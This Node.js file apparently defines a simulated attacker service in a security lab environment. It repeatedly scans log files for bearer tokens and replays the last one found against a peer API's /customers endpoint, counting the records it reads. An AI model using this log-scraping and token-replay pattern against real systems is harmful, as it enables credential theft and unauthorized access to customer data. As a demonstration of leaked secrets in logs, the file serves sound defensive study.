// SPDX-License-Identifier: GPL-3.0-or-later
'use strict';

const fs = require('node:fs');
const path = require('node:path');
const { request, answerJson } = require('../lib/http');
const { runService } = require('../services/service');

const address = '127.0.0.66';
const everyMs = 700;

// Finds a secret in the logs, as anybody with access to them could, and reads customers with it.
runService((context) => {
  let stolen = 0;
  let lastStatus = null;

  function findSecret() {
    for (const name of fs.readdirSync(context.paths.logs)) {
      const found = [...fs.readFileSync(path.join(context.paths.logs, name), 'utf8').matchAll(/Bearer ([a-z]+-[0-9a-f]{48})/g)].at(-1);
      if (found) return found[1];
    }
    return undefined;
  }

  async function read() {
    const secret = findSecret();
    const peer = context.configuration.peers.api.find((entry) => entry.port);
    if (secret && peer) {
      try {
        const answer = await request({ port: peer.port, path: '/customers', from: address, headers: { authorization: `Bearer ${secret}` } });
        lastStatus = answer.status;
        if (answer.status === 200) stolen += answer.json.customers.length;
      } catch {
        lastStatus = 0;
      }
    }
    setTimeout(read, everyMs);
  }
  read();

  return {
    async handle(request, response) { answerJson(response, 404, { ok: false }); },
    answers: { facts: () => ({ address, stolen, lastStatus, reading: lastStatus === 200 }) },
  };
});
